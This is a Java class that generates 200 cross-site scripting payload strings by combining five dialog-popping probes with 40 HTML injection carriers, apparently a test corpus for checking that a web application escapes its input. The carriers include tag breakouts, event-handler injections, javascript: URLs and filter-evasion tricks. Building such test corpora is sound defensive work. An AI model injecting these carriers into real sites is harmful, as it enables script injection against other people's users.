package org.onrecord.web;

import java.util.ArrayList;
import java.util.List;

/**
 * Two hundred pieces of text that are meant to run as a program where a page takes text for HTML.
 */
final class Payloads {

  private static final List<String> RUN =
      List.of(
          "alert(1)",
          "confirm`1`",
          "prompt(document.domain)",
          "window['al'+'ert'](1)",
          "top.alert(/x/)");

  /** {@code %s} is what would run. */
  private static final List<String> CARRIERS =
      List.of(
          "<script>%s</script>",
          "</title><script>%s</script>",
          "</textarea><script>%s</script>",
          "--><script>%s</script>",
          "]]><script>%s</script>",
          "'\"><script>%s</script>",
          "<ScRiPt\n>%s</sCrIpT>",
          "<scr<script>ipt>%s</script>",
          "<script src=data:text/javascript,%s></script>",
          "<img src=x onerror=%s>",
          "<img src=x onerror='%s'>",
          "\"><img src=x onerror=%s>",
          "' onmouseover='%s",
          "\" autofocus onfocus=\"%s",
          "<svg onload=%s>",
          "<svg><script>%s</script></svg>",
          "<svg><animate onbegin=%s attributeName=x dur=1s>",
          "<math><mtext></p><img src=x onerror=%s>",
          "<body onload=%s>",
          "<details open ontoggle=%s>",
          "<input autofocus onfocus=%s>",
          "<video><source onerror=%s>",
          "<audio src=x onerror=%s>",
          "<iframe srcdoc='<script>%s</script>'>",
          "<iframe src=\"javascript:%s\">",
          "<object data=\"javascript:%s\">",
          "<embed src=\"javascript:%s\">",
          "<a href=\"javascript:%s\">x</a>",
          "javascript:%s",
          "java\tscript:%s",
          "data:text/html,<script>%s</script>",
          "<form action=\"javascript:%s\"><button>x</button></form>",
          "<base href=\"javascript:%s//\">",
          "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
          "<link rel=stylesheet href=\"javascript:%s\">",
          "<style>@import 'javascript:%s';</style>",
          "&lt;script&gt;%s&lt;/script&gt;",
          "${%s}{{%s}}<%%= %s %%>",
          "\u202e<script>%s</script>\u202c",
          "<template><script>%s</script></template>");

  private Payloads() {}

  static List<String> all() {
    var all = new ArrayList<String>();
    for (String run : RUN) {
      for (String carrier : CARRIERS) {
        all.add(carrier.replace("%s", run).replace("%%", "%"));
      }
    }
    return all;
  }
}
